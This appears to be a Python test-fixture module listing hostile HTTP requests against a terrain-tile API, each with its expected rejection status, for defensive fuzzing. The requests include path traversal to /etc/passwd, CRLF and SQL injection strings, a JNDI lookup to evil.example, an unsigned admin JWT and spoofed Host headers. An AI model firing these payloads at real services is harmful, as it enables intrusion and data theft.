"""Hostile lines and headers: paths, queries, keys, methods, and what is no HTTP at all."""

from __future__ import annotations

from collections.abc import Iterator

from hostile_rows import JSON, KEY, LEVEL, TILES, Hostile, reading, row
from raw_http import written


def _paths() -> Iterator[Hostile]:
    for name, path, status in (
        ("nul", "/terrain/%00", 404),
        ("nul-within", "/terrain/gol%00den", 404),
        ("nul-metric", "/terrain/golden/pyramid/ma%00x", 404),
        ("nul-metric-level", "/terrain/golden/pyramid/ma%00x/0", 404),
        ("nul-level", "/terrain/golden/pyramid/max/%00", 422),
        ("nul-tile", "/terrain/tile/%00", 422),
        ("nul-registration", "/terrain/golden/registration/%00", 404),
        ("dots", "/terrain/../../etc/passwd", 404),
        ("encoded-dots", "/terrain/%2e%2e/%2e%2e/etc/passwd", 404),
        ("encoded-dots-terrain", "/terrain/%2e%2e", 404),
        ("encoded-slashes", "/terrain/..%2f..%2f..%2fetc%2fpasswd", 404),
        ("encoded-backslashes", "/terrain/..%5c..%5cetc%5cpasswd", 404),
        ("doubly-encoded", "/terrain/%252e%252e%252fetc", 404),
        ("overlong-utf-8", "/terrain/%c0%ae%c0%ae/%c0%af", 404),
        ("invalid-utf-8", "/terrain/%ff%fe", 404),
        ("lone-surrogate", "/terrain/%ed%a0%80", 404),
        ("bad-percent", "/terrain/%zz%", 404),
        ("crlf", "/terrain/a%0d%0aSet-Cookie:%20x=1", 404),
        ("crlf-registration", "/terrain/golden/registration/%0d%0aX:%20y", 404),
        ("emoji", "/terrain/%F0%9F%97%BB", 404),
        ("right-to-left", "/terrain/%E2%80%AEgnp", 404),
        ("digits-of-another-script", "/terrain/%D9%A1%D9%A2", 404),
        ("level-of-another-script", "/terrain/golden/pyramid/max/%D9%A9", (404, 422)),
        ("huge-terrain-id", f"/terrain/{10**30}", 404),
        ("terrain-id-2-63", f"/terrain/{2**63}", 404),
        ("terrain-id-negative", "/terrain/-1", 404),
        ("terrain-id-many-digits", f"/terrain/{'9' * 5000}", 404),
        ("terrain-id-zeros", f"/terrain/{'0' * 4000}1/tile", 404),
        ("huge-tile-id", f"/terrain/tile/{10**30}", 422),
        ("tile-id-2-63", f"/terrain/tile/{2**63}", 422),
        ("tile-id-many-digits", f"/terrain/tile/{'9' * 5000}", 422),
        ("tile-id-float", "/terrain/tile/1e400", 422),
        ("huge-level", f"/terrain/golden/pyramid/max/{10**30}", 422),
        ("level-53", f"/terrain/golden/pyramid/max/{2**53}", 404),
        ("level-minus-53", f"/terrain/golden/pyramid/max/-{2**53}", 404),
        ("level-nan", "/terrain/golden/pyramid/max/nan", 422),
        ("template", "/terrain/{{7*7}}", 404),
        ("sql", "/terrain/golden'%20OR%201=1--", 404),
        ("sql-like", "/terrain/%25", 404),
        ("long-name", f"/terrain/{'a' * 10_000}", 404),
        ("double-slash", "//terrain", 404),
        ("double-slash-host", "//evil.example/terrain", 404),
        ("absolute", "http://evil.example/terrain", 404),
        ("asterisk", "*", 404),
        ("no-slash", "terrain", 404),
        ("semicolon", "/terrain;jsessionid=1", 404),
        ("fragment", "/terrain#there", 404),
        ("trailing-slash", "/terrain/", 404),
        ("trailing-slash-host", "//evil.example/terrain/golden/", 404),
        ("many-slashes", f"/terrain{'/' * 5000}", 404),
        ("metric-path", "/terrain/golden/pyramid/..%2fmax/0", 404),
        ("metric-module", "/terrain/golden/pyramid/os:system/0", 404),
    ):
        yield row(f"path-{name}", status, reading(path), "/etc/passwd", "../etc/passwd", "/../../etc/passwd")
    yield row("path-raw-bytes", 400, reading(b"/terrain/\xff\xfe"))
    yield row("path-raw-nul", 400, reading(b"/terrain/\x00"))
    yield row("path-raw-tab", 400, reading(b"/terrain/\ta"))
    yield row("path-of-10-kB", 404, reading("/terrain/" + "a/" * 5000))
    yield row("line-without-end", 400, b"GET /terrain/" + b"a" * 20_000)
    yield row("query-of-12-kB", 422, reading("/terrain?q=" + "a" * 12_000))


def _queries() -> Iterator[Hostile]:
    for name, target, status in (
        ("limit-1e9", "/terrain?limit=1000000000", 422),
        ("limit-huge", f"/terrain?limit={10**400}", 422),
        ("limit-many-digits", f"/terrain?limit={'9' * 5000}", 422),
        ("limit-negative", "/terrain?limit=-1", 422),
        ("limit-zero", "/terrain?limit=0", 422),
        ("limit-float", "/terrain?limit=1e3", 422),
        ("limit-nan", "/terrain?limit=NaN", 422),
        ("limit-empty", "/terrain?limit=", 422),
        ("limit-hex", "/terrain?limit=0x10", 422),
        ("limit-twice", "/terrain?limit=1&limit=2", 422),
        ("limit-array", "/terrain?limit[]=1", 422),
        ("limit-of-another-script", "/terrain?limit=%D9%A1", (200, 422)),
        ("unknown", "/terrain?debug=true", 422),
        ("unknown-crlf", "/terrain?a%0d%0aSet-Cookie:x=1", 422),
        ("unknown-nul", "/terrain?%00=1", 422),
        ("unknown-many", "/terrain?" + "&".join(f"a{n}=1" for n in range(1500)), 422),
        ("q-nul", "/terrain?q=%00", 422),
        ("q-invalid-utf-8", "/terrain?q=%ff%fe", 200),
        ("q-surrogate", "/terrain?q=%ed%a0%80", 200),
        ("q-wildcards", "/terrain?q=%25_%5c", 200),
        ("q-sql", "/terrain?q='%3B%20DROP%20TABLE%20terrain--", 200),
        ("q-crlf", "/terrain?q=g%0d%0aX-Evil:%201&limit=1", 200),
        ("q-twice", "/terrain?q=a&q=b", 422),
        ("cursor-garbage", "/terrain?after=!!!", 422),
        ("cursor-nul", "/terrain?after=AAAA", 422),
        ("cursor-quote", "/terrain?after=JyBPUiAxPTE", 422),  # ' OR 1=1
        ("cursor-unicode", "/terrain?after=%F0%9F%97%BB", 422),
        ("cursor-long", f"/terrain?after={'YWFh' * 130}", 422),
        ("cursor-terrain-of-tiles", "/terrain?after=MQ", 422),  # 1
        ("cursor-tile-of-terrains", f"{TILES}?after=Z29sZGVu", 422),  # golden
        ("cursor-tile-2-70", f"{TILES}?after=MTE4MDU5MTYyMDcxNzQxMTMwMzQyNA", (200, 422)),
        ("cursor-tile-negative", f"{TILES}?after=LTE", 422),  # -1
        ("cursor-tile-many-digits", f"{TILES}?after={'OTk5' * 120}", (200, 422)),
        ("bbox-nan", "/terrain?bbox=nan,nan,nan,nan", 422),
        ("bbox-inf", "/terrain?bbox=-inf,-inf,inf,inf", 422),
        ("bbox-1e400", "/terrain?bbox=1e400,0,1,1", 422),
        ("bbox-five", "/terrain?bbox=1,2,3,4,5", 422),
        ("bbox-nul", "/terrain?bbox=1,2,3,%00", 422),
        ("bbox-huge", "/terrain?bbox=-1e308,-1e308,1e308,1e308", 422),
        ("tiles-bbox-nan", f"{TILES}?bbox=nan,0,1,1", 422),
        ("cell-huge", f"{TILES}?row={10**40}&col=0", 422),
        ("cell-2-53", f"{TILES}?row={2**53}&col={-(2**53)}", 200),
        ("cell-half", f"{TILES}?row=1", 422),
        ("window-huge", f"{LEVEL}?row=0&col=0&height={2**53}&width={2**53}", (413, 422)),
        ("window-huger", f"{LEVEL}?height={2**64}", 422),
        ("window-negative", f"{LEVEL}?row=-1", 422),
        ("window-outside", f"{LEVEL}?row={2**53}&col={2**53}&height=1&width=1", 422),
        ("window-1e400", f"{LEVEL}?row=1e400", 422),
        ("window-overflowing", f"{LEVEL}?row={2**53}&height={2**53}", 422),
        ("format-path", f"{LEVEL}?f=../../etc/passwd", 422),
        ("format-crlf", f"{LEVEL}?f=json%0d%0aX:1", 422),
        ("format-nul", f"{LEVEL}?f=%00", 422),
        ("stale-garbage", f"{LEVEL}?stale=%27", 422),
        ("semicolons", "/terrain?limit=1;q=a", 422),
        ("bad-percent", "/terrain?q=%zz%", 200),
        ("only-ampersands", "/terrain?" + "&" * 5000, 200),
    ):
        yield row(f"query-{name}", status, reading(target), "/etc/passwd")
    yield row("query-raw-bytes", 400, reading(b"/terrain?q=\xff\xfe"))


def _headers() -> Iterator[Hostile]:
    for name, header, status in (
        ("accept-garbage", "Accept: ;;;,,,q=q=q", (200, 406)),
        ("accept-nan", "Accept: application/json;q=nan", 406),
        ("accept-quality", "Accept: application/json;q=1e400", 406),
        ("accept-page", "Accept: text/html", 406),
        ("accept-many", "Accept: " + ", ".join(f"a/{n}" for n in range(1500)), 406),
        ("accept-bytes", b"Accept: \xff\xfe/\x80", 406),
        ("range-garbage", "Range: bytes=-99999999999999999999,9-1,a-b", 200),
        ("range-many", "Range: bytes=" + ",".join("0-0" for _ in range(3000)), 200),
        ("range-negative", "Range: bytes=--1", 200),
        ("range-huge", f"Range: bytes=0-{'9' * 5000}", 200),
        ("prefer-huge", f"Prefer: wait={'9' * 5000}", 200),
        ("prefer-negative", "Prefer: wait=-1", 200),
        ("prefer-nan", 'Prefer: wait=nan, respond-async=;;;"', 200),
        ("prefer-commas", "Prefer: " + "," * 10_000, 200),
        ("prefer-spaces", "Prefer: wait" + " " * 10_000 + "x", 200),
        ("if-none-match-garbage", 'If-None-Match: W/"W/"",,,"', 200),
        ("if-none-match-star", "If-None-Match: *", 304),
        ("if-none-match-many", "If-None-Match: " + ", ".join('""' for _ in range(3000)), 200),
        ("if-none-match-open", 'If-None-Match: "' + "\\" * 10_000, 200),
        ("if-none-match-bytes", b'If-None-Match: "\xff\xfe"', 200),
        ("request-id-crlf", "X-Request-Id: a%0d%0ab", 200),
        ("request-id-bytes", b"X-Request-Id: \xff\xfe", 200),
        ("request-id-long", "X-Request-Id: " + "a" * 10_000, 200),
        ("origin-garbage", "Origin: javascript:alert(1)", 200),
        ("origin-null", "Origin: null", 200),
        ("forwarded", "X-Forwarded-For: 127.0.0.1, ::1, evil", 200),
        ("forwarded-host", "X-Forwarded-Host: evil.example", 200),
        ("override", "X-HTTP-Method-Override: DELETE", 200),
        ("original-url", "X-Original-URL: /metrics", 200),
        ("cookie", "Cookie: " + "a=b;" * 3000, 200),
        ("expect", "Expect: 200-maybe", 200),
        ("upgrade", "Upgrade: h2c", 200),
        ("te", "TE: trailers, deflate;q=0.5", 200),
        ("traceparent", "traceparent: 00-zz-\x7f", 200),
        ("many", "\r\n".join(f"X-{n}: {n}" for n in range(700)), 200),
        ("folded", "X-Folded: a\r\n b", (200, 400)),
        ("no-colon", "Nonsense", 400),
        ("space-before-colon", "X-Evil : 1", 400),
        ("empty-name", ": 1", 400),
        ("nul", "X-Nul: a\x00b", 400),
        ("bare-cr", "X-Cr: a\rb", 400),
        ("second-host", "Host: evil.example", 400),
    ):
        yield row(f"header-{name}", status, reading(LEVEL, header))
    yield row("host-other", 421, written("GET", "/terrain", KEY, host="evil.example"))
    yield row("host-empty", 421, written("GET", "/terrain", KEY, host=""))
    yield row("host-user", 421, written("GET", "/terrain", KEY, host="localhost@evil.example"))
    yield row("host-crlf", 421, written("GET", "/terrain", KEY, host="localhost%0d%0a"))
    yield row("host-bracket", 421, written("GET", "/terrain", KEY, host="[::1"))
    yield row("host-script", 421, written("GET", "/terrain", KEY, host="<script>"))
    yield row("header-without-end", 400, b"GET /terrain HTTP/1.1\r\nX-Long: " + b"a" * 20_000)
    yield row("host-missing", 400, b"GET /terrain HTTP/1.1\r\n\r\n")


NONE_JWT = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInNjb3BlIjoid3JpdGUifQ."


def _keys() -> Iterator[Hostile]:
    for name, value in (
        ("jwt-none", f"Bearer {NONE_JWT}"),
        ("jwt-signed", f"Bearer {NONE_JWT}c2lnbmVk"),
        ("scheme-basic", "Basic {key}"),
        ("scheme-missing", "{key}"),
        ("scheme-digest", 'Digest username="admin"'),
        ("scheme-tab", "Bearer\t{key}"),
        ("empty", ""),
        ("only-scheme", "Bearer"),
        ("only-scheme-and-space", "Bearer "),
        ("non-ascii", "Bearer zig_000000000000.ä€𐍈"),
        ("bytes", b"Bearer \xff\xfe"),
        ("digits-of-another-script", "Bearer zig_١٢٣٤٥٦٧٨٩٠١٢." + "a" * 43),
        ("superscript", b"Bearer zig_\xb2\xb3\xb9." + b"\xe9" * 43),
        ("forged", "Bearer zig_000000000000." + "A" * 43),
        ("forged-16", "Bearer zig_0000000000000000." + "A" * 43),
        ("forged-long", "Bearer zig_00000000." + "A" * 10_000),
        ("prefix-only", "Bearer zig_000000000000"),
        ("without-end", "Bearer {key}A"),
        ("twice", "Bearer {key}, Bearer {key}"),
        ("two-words", "Bearer {key} {key}"),
        ("quoted", 'Bearer "{key}"'),
        ("sql", "Bearer zig_' OR '1'='1.x"),
        ("wildcard", "Bearer zig_%.%"),
        ("template", "Bearer ${jndi:ldap://evil.example/a}"),
    ):
        header = b"Authorization: " + (value if isinstance(value, bytes) else value.encode())
        yield row(f"key-{name}", 401, written("POST", "/terrain", header, JSON, body=b'{"name": "never"}'))
    none = written("POST", "/terrain", JSON, body=b'{"name": "never"}')
    yield row("key-none", 401, none)
    yield row("key-in-query", 401, written("POST", "/terrain?key={key}", JSON, body=b'{"name": "never"}'))
    yield row("key-in-cookie", 401, written("POST", "/terrain", "Cookie: key={key}", JSON, body=b"{}"))
    yield row(
        "key-good-and-forged", 401, written("POST", "/terrain", "Authorization: Bearer zig_0.a", KEY, JSON)
    )
    yield row(
        "key-forged-after-good", 401, written("POST", "/terrain", KEY, "Authorization: Bearer zig_0.a", JSON)
    )
    yield row("key-for-metrics-forged", 401, written("GET", "/metrics", "Authorization: Bearer zig_0.a"))


def _methods() -> Iterator[Hostile]:
    for method, status in (
        ("PUT", 405),
        ("TRACE", 405),
        ("CONNECT", 405),
        ("PROPFIND", 405),
        ("QUERY", 405),
        ("OPTIONS", 405),
        ("get", 405),
        ("A" * 5000, 405),
        ("G%45T", 405),
        ("__class__", 405),
    ):
        yield row(f"method-{method[:9]}", status, written(method, "/terrain", KEY))
    yield row("method-split", 400, written("GE T", "/terrain", KEY))
    yield row("method-bytes", 400, written("GÉT", "/terrain", KEY))
    yield row("method-head-with-body", 200, written("HEAD", "/terrain", KEY, body=b"x"))
    yield row("method-get-with-body", 200, written("GET", "/terrain", KEY, JSON, body=b'{"a": NaN}'))
    yield row(
        "preflight-garbage",
        400,
        written(
            "OPTIONS",
            "/terrain",
            "Origin: '",
            "Access-Control-Request-Method: <x>",
        ),
        "<x>",
    )
    yield row("version-9", 200, b"GET /terrain HTTP/9.9\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    yield row("version-none", 400, b"GET /terrain\r\n\r\n")
    yield row("version-2", 421, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield row("tls", 400, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 40)
    yield row("blank", 400, b"\r\n\r\n")
    yield row("nothing", (None,), b"")
    yield row("half-a-head", (None,), b"GET /terrain HTTP/1.1\r\nHost: loc")


def hostile_heads() -> Iterator[Hostile]:
    """All of them."""
    for rows in (_paths, _queries, _headers, _keys, _methods):
        yield from rows()
